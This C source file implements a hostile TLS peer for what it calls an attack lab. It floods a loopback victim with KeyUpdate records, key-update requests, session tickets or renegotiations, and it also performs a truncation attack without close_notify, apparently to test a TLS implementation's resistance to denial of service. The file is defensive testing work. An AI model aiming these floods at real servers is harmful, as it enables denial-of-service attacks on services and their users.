// One hostile TLS peer of the attack lab, at full speed, in a separate process.
//
//     hostile-tls MODE CERTIFICATE KEY BYTES PORT
//
// It prints the same lines as hostile.py. As a server it listens on a free port and prints it; as a client it attacks PORT.
// BYTES limits the bytes that one connection sends; 0 for no limit. Records are made in advance and sent many at a time, so that
// the victim always has more of them to read than it can process.
#include <arpa/inet.h>
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum { records_at_once = 2000 };

struct attack {
    const char *mode;
    int is_client;
    // The number of connections at a time, for a client.
    int connections;
    // Makes one more record; below 1 if the connection cannot be used any more.
    int (*make)(SSL *);
};

static SSL_CTX *context;
static const struct attack *attack;
static long limit;
static int victim_port;

static int make_key_update(SSL *ssl) {
    if (SSL_key_update(ssl, SSL_KEY_UPDATE_NOT_REQUESTED) != 1) return 0;
    return SSL_do_handshake(ssl);
}

static int make_key_request(SSL *ssl) {
    if (SSL_key_update(ssl, SSL_KEY_UPDATE_REQUESTED) != 1) return 0;
    return SSL_do_handshake(ssl);
}

static int make_ticket(SSL *ssl) {
    if (SSL_new_session_ticket(ssl) != 1) return 0;
    return SSL_do_handshake(ssl);
}

static const struct attack attacks[] = {
    {"tls-key-updates", 0, 0, make_key_update},
    {"tls-key-requests", 0, 0, make_key_request},
    {"tls-session-tickets", 0, 0, make_ticket},
    {"tls-truncation", 0, 0, NULL},
    {"server-key-updates", 1, 1, make_key_update},
    {"server-key-requests", 1, 1, make_key_request},
    {"server-key-requests-crowd", 1, 10, make_key_request},
    {"server-renegotiation", 1, 1, NULL},
};

static int send_all(int descriptor, const char *bytes, long count) {
    while (count > 0) {
        long sent = send(descriptor, bytes, (size_t)count, MSG_NOSIGNAL);
        if (sent <= 0) return 0;
        bytes += sent;
        count -= sent;
    }
    return 1;
}

// Reads and discards the victim's data, so that it never waits for us.
static void *swallow(void *argument) {
    char bytes[1 << 16];
    int descriptor = *(int *)argument;
    while (recv(descriptor, bytes, sizeof bytes, 0) > 0) {}
    return NULL;
}

static void flood(SSL *ssl, int descriptor) {
    BIO *made = BIO_new(BIO_s_mem());
    SSL_set0_wbio(ssl, made);
    pthread_t reader;
    pthread_create(&reader, NULL, swallow, &descriptor);
    long left = limit > 0 ? limit : 0x7fffffffffffffff;
    int is_open = 1;
    while (is_open && left > 0) {
        for (int count = 0; is_open && count < records_at_once && (long)BIO_pending(made) < left; count++)
            is_open = attack->make(ssl) == 1;
        char *bytes;
        long count = BIO_get_mem_data(made, &bytes);
        is_open = is_open && count > 0 && send_all(descriptor, bytes, count);
        left -= count;
        (void)BIO_reset(made);
    }
    shutdown(descriptor, SHUT_RDWR);
    pthread_join(reader, NULL);
}

static void truncate_response(SSL *ssl, int descriptor) {
    static const char response[] = "HTTP/1.1 200 OK\r\nConnection: close\r\n\r\nhalf of it";
    SSL_write(ssl, response, sizeof response - 1);
    shutdown(descriptor, SHUT_WR); // without close_notify
    swallow(&descriptor);
}

static void renegotiate(SSL *ssl) {
    char byte;
    for (int count = 0; limit == 0 || count < 1000; count++)
        if (SSL_renegotiate(ssl) != 1 || SSL_do_handshake(ssl) != 1 || SSL_read(ssl, &byte, 0) < 0) return;
}

static void *talk(void *argument) {
    int descriptor = (int)(long)argument;
    SSL *ssl = SSL_new(context);
    SSL_set_fd(ssl, descriptor);
    int is_open = attack->is_client ? SSL_connect(ssl) == 1 : SSL_accept(ssl) == 1;
    char bytes[1 << 14];
    if (is_open && !attack->is_client) is_open = SSL_read(ssl, bytes, sizeof bytes) > 0;
    if (is_open) {
        if (attack->make) {
            flood(ssl, descriptor);
        } else if (attack->is_client) {
            renegotiate(ssl);
        } else {
            truncate_response(ssl, descriptor);
        }
    }
    SSL_free(ssl);
    ERR_clear_error();
    close(descriptor);
    return NULL;
}

static void serve(void) {
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t size = sizeof address;
    int listener = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(listener, (struct sockaddr *)&address, size) || listen(listener, 64)) exit(71);
    getsockname(listener, (struct sockaddr *)&address, &size);
    printf("ready %d\n", ntohs(address.sin_port));
    fflush(stdout);
    for (;;) {
        int descriptor = accept(listener, NULL, NULL);
        pthread_t thread;
        if (descriptor >= 0 && pthread_create(&thread, NULL, talk, (void *)(long)descriptor) == 0) pthread_detach(thread);
    }
}

static void *connect_and_talk(void *unused) {
    (void)unused;
    struct sockaddr_in address = {
        .sin_family = AF_INET, .sin_port = htons((unsigned short)victim_port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    do {
        int descriptor = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(descriptor, (struct sockaddr *)&address, sizeof address) == 0) {
            talk((void *)(long)descriptor);
        } else {
            close(descriptor);
            usleep(10000);
        }
    } while (limit == 0);
    return NULL;
}

static void go(void) {
    pthread_t threads[16];
    puts("ready 0");
    fflush(stdout);
    for (int index = 0; index < attack->connections; index++)
        pthread_create(&threads[index], NULL, connect_and_talk, NULL);
    for (int index = 0; index < attack->connections; index++) pthread_join(threads[index], NULL);
    puts("done");
    fflush(stdout);
    for (;;) pause();
}

int main(int count, char **words) {
    if (count != 6) return 64;
    for (size_t index = 0; index < sizeof attacks / sizeof *attacks; index++)
        if (strcmp(attacks[index].mode, words[1]) == 0) attack = &attacks[index];
    if (!attack) {
        fprintf(stderr, "hostile-tls: no mode '%s'\n", words[1]);
        return 64;
    }
    limit = atol(words[4]);
    victim_port = atoi(words[5]);
    signal(SIGPIPE, SIG_IGN);
    context = SSL_CTX_new(TLS_method());
    if (strcmp(attack->mode, "server-renegotiation") == 0) SSL_CTX_set_max_proto_version(context, TLS1_2_VERSION);
    else SSL_CTX_set_min_proto_version(context, TLS1_3_VERSION);
    if (!attack->is_client
        && (SSL_CTX_use_certificate_chain_file(context, words[2]) != 1
            || SSL_CTX_use_PrivateKey_file(context, words[3], SSL_FILETYPE_PEM) != 1)) {
        ERR_print_errors_fp(stderr);
        return 66;
    }
    if (attack->is_client) go();
    else serve();
}
